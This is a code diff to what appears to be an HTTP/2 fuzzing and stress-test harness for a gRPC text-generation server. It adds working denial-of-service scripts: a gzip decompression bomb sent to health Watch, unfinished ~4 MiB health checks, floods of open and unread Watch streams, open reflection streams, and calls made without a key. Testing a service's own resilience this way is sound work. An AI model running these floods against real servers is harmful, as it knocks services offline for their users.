@@ -4,12 +4,14 @@ A script goes on until it is cancelled or the server has had enough, and is then
 """
 
 import asyncio
+import gzip
 import random
 from collections.abc import Awaitable, Callable
 from dataclasses import dataclass
 from typing import Final
 
 from flywheel_proto.v1 import generation_pb2 as pb
+from grpc_reflection.v1alpha.reflection_pb2 import ServerReflectionRequest
 from h2.errors import ErrorCodes
 from h2.settings import SettingCodes
 from hyperframe.frame import (
@@ -23,11 +25,12 @@ from hyperframe.frame import (
     WindowUpdateFrame,
 )
 
-from fuzz.http2 import PREFACE, Connection, Tally, call, header_block
+from fuzz.http2 import PREFACE, SERVICE, Connection, Tally, call, header_block, prefixed
 
 BATCH: Final = 100
 """How many frames, or pairs of them, are written at a time."""
 
+HEALTH: Final = "/grpc.health.v1.Health/"
 CALL: Final = header_block("GenerateDeltas")
 SHORT: Final = pb.GenerationRequest(text="x", max_tokens=1).SerializeToString()
 LONG: Final = pb.GenerationRequest(text="x", max_tokens=4000, num_samples=16).SerializeToString()
@@ -36,6 +39,12 @@ INSERT_LARGEST: Final = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000
 LARGEST: Final = b"\xbe"
 FRAME: Final = 16_384
 """The largest frame that a server takes unless it says otherwise."""
+CHECK: Final = header_block("Check", service=HEALTH)
+WATCH: Final = header_block("Watch", service=HEALTH)
+GZIPPED_WATCH: Final = header_block("Watch", ("grpc-encoding", "gzip"), service=HEALTH)
+REFLECTION: Final = header_block("ServerReflectionInfo", service="/grpc.reflection.v1.ServerReflection/")
+NEARLY_4_MIB: Final = 4 * 2**20 - 100
+"""Almost the largest message that a server takes by default."""
 
 
 @dataclass(frozen=True)
@@ -45,6 +54,8 @@ class Attack:
     name: str
     script: Callable[[Connection], Awaitable[None]]
     connections: int = 4
+    is_by_strangers: bool = False
+    """Whether the server has a key, and the attackers do not know it."""
 
     async def run(self, host: str, port: int, seconds: float) -> Tally:
         """Attacks for so many seconds; returns what was sent and what came back."""
@@ -210,6 +221,70 @@ async def random_frames(connection: Connection) -> None:
         await connection.send(frames)
 
 
+async def gzipped_watches(connection: Connection) -> None:
+    """Watches the health of services with names of almost 4 MiB, which are 4 KiB on the wire."""
+    await connection.start()
+    name = b"\x0a" + _varint(NEARLY_4_MIB) + b"x" * NEARLY_4_MIB
+    message = prefixed(gzip.compress(name), is_compressed=True)
+    while True:
+        stream = connection.new_stream()
+        await connection.send([HeadersFrame(stream, GZIPPED_WATCH, flags=["END_HEADERS"]), DataFrame(stream, message)])
+
+
+async def unfinished_checks(connection: Connection) -> None:
+    """Begins requests of almost 4 MiB to health, and sends as much of each as a server takes unasked."""
+    await connection.start()
+    beginning = b"\0" + NEARLY_4_MIB.to_bytes(4) + b"x" * (3 * FRAME)
+    parts = [beginning[start : start + FRAME] for start in range(0, len(beginning), FRAME)]
+    while True:
+        stream = connection.new_stream()
+        await connection.send(
+            [HeadersFrame(stream, CHECK, flags=["END_HEADERS"]), *(DataFrame(stream, part) for part in parts)]
+        )
+        # The window of the connection has room for one.
+        await asyncio.sleep(0.01)
+
+
+async def open_watches(connection: Connection) -> None:
+    """Watches health, as often as there may be and more."""
+    await connection.start()
+    while True:
+        frames: list[Frame] = []
+        for _ in range(BATCH):
+            frames += call(connection.new_stream(), WATCH, b"")
+        await connection.send(frames)
+
+
+async def unread_watches(connection: Connection) -> None:
+    """Does the same without ever granting the server a byte to answer."""
+    await connection.start({SettingCodes.INITIAL_WINDOW_SIZE: 0})
+    while True:
+        frames: list[Frame] = []
+        for _ in range(BATCH):
+            frames += call(connection.new_stream(), WATCH, b"")
+        await connection.send(frames)
+
+
+async def open_reflection(connection: Connection) -> None:
+    """Asks for all that reflection has, and leaves each stream open."""
+    await connection.start()
+    request = ServerReflectionRequest(file_containing_symbol=SERVICE.strip("/")).SerializeToString()
+    while True:
+        frames: list[Frame] = []
+        for _ in range(BATCH):
+            stream = connection.new_stream()
+            frames += [HeadersFrame(stream, REFLECTION, flags=["END_HEADERS"]), DataFrame(stream, prefixed(request))]
+        await connection.send(frames)
+
+
+def _varint(number: int) -> bytes:
+    encoded = bytearray()
+    while number > 0x7F:
+        encoded.append(number & 0x7F | 0x80)
+        number >>= 7
+    return bytes([*encoded, number])
+
+
 class _Raw(Frame):
     """A frame that may be wrong in every way."""
 
@@ -238,4 +313,10 @@ ATTACKS: Final = (
     Attack("half-open connections", half_open, connections=500),
     Attack("idle connections", idle_connections, connections=1500),
     Attack("random frames", random_frames, connections=8),
+    Attack("gzipped Watch requests", gzipped_watches, is_by_strangers=True),
+    Attack("unfinished health checks", unfinished_checks, is_by_strangers=True),
+    Attack("open Watch streams", open_watches, connections=16, is_by_strangers=True),
+    Attack("unread Watch streams", unread_watches, connections=16, is_by_strangers=True),
+    Attack("open reflection streams", open_reflection, connections=16, is_by_strangers=True),
+    Attack("unfinished calls without a key", unfinished_calls, is_by_strangers=True),
 )
